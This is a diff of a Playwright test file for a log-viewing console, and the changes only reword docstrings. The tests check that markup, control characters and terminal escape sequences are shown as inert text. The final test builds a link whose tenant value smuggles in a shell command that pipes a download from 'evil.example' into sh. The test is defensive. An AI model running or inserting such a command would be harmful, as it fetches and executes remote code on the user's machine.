@@ -1,4 +1,4 @@
-"""Logs that want to be more than text."""
+"""Logs with markup, scripts and control characters."""
 
 import pytest
 from playwright.sync_api import expect
@@ -44,7 +44,7 @@ OBEYED = {
 
 @pytest.fixture(scope="module")
 def hostile(server: LocalServer) -> str:
-    """A tenant whose logs are all of these, also as attributes, keys and services."""
+    """Return a tenant with all hostile texts as logs, attributes, attribute names and services."""
     client = Client(server.endpoint)
     texts = HOSTILE | {name: text for name, (text, _) in OBEYED.items()}
     send(
@@ -59,7 +59,7 @@ def hostile(server: LocalServer) -> str:
 
 
 def test_markup_is_shown_as_text(open_page: OpenPage, server: LocalServer, hostile: str) -> None:
-    """A log that holds markup, scripts or templates is shown letter by letter, and none of it is obeyed."""
+    """Markup, scripts and templates in a log are shown as text and never interpreted."""
     page = open_page(address(server, hostile))
     foreign = (
         "log-list :is(script, img, svg, iframe, style, meta, base, form, a[href^='javascript:'], noscript, textarea)"
@@ -77,7 +77,7 @@ def test_markup_is_shown_as_text(open_page: OpenPage, server: LocalServer, hosti
 
 
 def test_what_would_be_obeyed_is_marked(open_page: OpenPage, server: LocalServer, hostile: str) -> None:
-    """Control characters, changes of direction and invisible characters are shown as a mark that names them."""
+    """Control characters, changes of direction and invisible characters are shown as marks with their names."""
     page = open_page(address(server, hostile))
     for name, (text, mark) in OBEYED.items():
         page.goto(address(server, hostile, log=name))
@@ -88,7 +88,7 @@ def test_what_would_be_obeyed_is_marked(open_page: OpenPage, server: LocalServer
 
 
 def test_colours_of_terminals_are_colours(open_page: OpenPage, server: LocalServer, client: Client) -> None:
-    """Colours that a terminal would show are shown, and their sequences are not; they end with the text."""
+    """Terminal colours are shown as colours, without their escape sequences, and end with the text."""
     send(
         client,
         "colours",
@@ -107,7 +107,7 @@ def test_colours_of_terminals_are_colours(open_page: OpenPage, server: LocalServ
 
 
 def test_a_bomb_of_colours_costs_few_nodes(open_page: OpenPage, server: LocalServer, client: Client) -> None:
-    """A text that changes its colour at each character is shown whole, in some hundred nodes."""
+    """A text that changes its colour at each character is shown completely with at most 800 nodes."""
     bomb = "".join(f"{ESCAPE}[{31 + index % 7}m{index % 10}" for index in range(10_000))
     send(client, "bomb", [{"log_id": "bomb", "message": bomb}])
     page = open_page(address(server, "bomb", log="bomb"))
@@ -118,7 +118,7 @@ def test_a_bomb_of_colours_costs_few_nodes(open_page: OpenPage, server: LocalSer
 
 
 def test_a_hostile_address_becomes_no_command(open_page: OpenPage, server: LocalServer) -> None:
-    """A link whose tenant is none puts nothing of it into the command to copy."""
+    """Nothing of an invalid tenant in a link gets into the command that users copy."""
     page = open_page(f"{server.endpoint}/console#/logs?tenant=x%27%3Bcurl%20evil.example%7Csh%3B%27")
     expect(page.locator("first-log pre")).to_be_visible()
     assert "evil" not in page.locator("first-log pre").inner_text()
